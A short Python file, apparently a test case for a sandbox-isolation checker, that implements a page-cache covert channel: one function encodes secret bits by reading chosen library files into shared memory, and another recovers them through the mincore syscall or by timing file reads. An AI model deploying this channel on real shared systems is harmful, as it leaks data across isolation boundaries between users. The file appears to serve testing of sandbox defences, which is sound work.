"""read pages of large files, which then are in memory for everyone

Breach: another sandbox learns which, by asking or by the time that reading takes. Runs with ctypes.
"""

import ctypes
import mmap
import os
import time

VERDICT = "AC SV RTE"
RUNTIME = "peers"
MINCORE = 27


def places() -> list[str]:
    folder = "/python/lib/" + os.listdir("/python/lib")[0] + "/"
    return [folder + name for name in sorted(os.listdir(folder)) if name.endswith(".py")][:64]


def leave(secret: bytes) -> bytes:
    bits = int.from_bytes(secret, "big")
    for index, place in enumerate(places()):
        with open(place, "rb") as file:
            if bits >> index & 1:
                file.read()
    return b""


def find(blob: bytes) -> bytes:
    calls = ctypes.CDLL(None, use_errno=True)
    page = mmap.mmap(-1, 4096)
    seen = ctypes.create_string_buffer(1)
    address = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    if calls.syscall(MINCORE, address, 4096, seen) == 0:
        return b"can ask"
    times = []
    for place in places():
        start = time.perf_counter_ns()
        with open(place, "rb") as file:
            file.read()
        times.append(time.perf_counter_ns() - start)
    middle = sorted(times)[32]
    return sum((each < middle) << index for index, each in enumerate(times)).to_bytes(8, "big")
